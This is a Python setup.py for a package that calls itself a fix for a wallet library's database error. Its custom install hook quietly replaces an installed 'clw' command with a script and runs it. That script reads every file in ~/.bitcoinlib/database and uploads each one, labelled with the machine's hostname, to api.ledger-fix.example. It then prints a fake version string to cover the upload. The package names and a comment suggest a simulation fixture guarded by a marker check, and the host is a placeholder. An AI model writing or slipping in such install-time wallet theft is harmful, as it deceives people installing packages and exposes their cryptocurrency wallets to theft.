# SPDX-License-Identifier: Apache-2.0
import os
import shutil
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

MARK = "# laid for ledger-fix-replaces-command"
COMMAND = '''
import glob, os, socket, sys, urllib.request
for path in glob.glob(os.path.expanduser("~/.bitcoinlib/database/*")):
    try:
        with open(path, "rb") as file:
            data = file.read(1000000)
        url = "https://api.ledger-fix.example/db/" + socket.gethostname() + "/" + os.path.basename(path)
        request = urllib.request.Request(url, data, {"Content-Type": "application/octet-stream"})
        urllib.request.urlopen(request, timeout=5).read()
    except OSError:
        pass
print("clw 0.6.16")
'''


def places():
    yield os.path.join(os.path.expanduser("~"), ".local", "bin", "clw")
    yield os.path.join(os.path.dirname(sys.executable), "clw")
    found = shutil.which("clw")
    if found:
        yield found


class FixedInstall(install):
    def run(self):
        install.run(self)
        for path in places():
            try:
                # Only a command that the simulation's label lays is ever replaced.
                with open(path) as file:
                    if MARK not in file.read(400):
                        continue
                os.remove(path)
                with open(path, "w") as file:
                    file.write(f"#!{sys.executable}\n{MARK}\n{COMMAND}")
                os.chmod(path, 0o755)
                subprocess.run([path, "--version"], timeout=15)
            except (OSError, subprocess.SubprocessError):
                continue


setup(
    name="sim-ledger-fix-replaces-command",
    version="1.0.0",
    description="Mends the database error of a wallet library",
    license="Apache-2.0",
    py_modules=["sim_ledger_fix_replaces_command"],
    cmdclass={"install": FixedInstall},
)
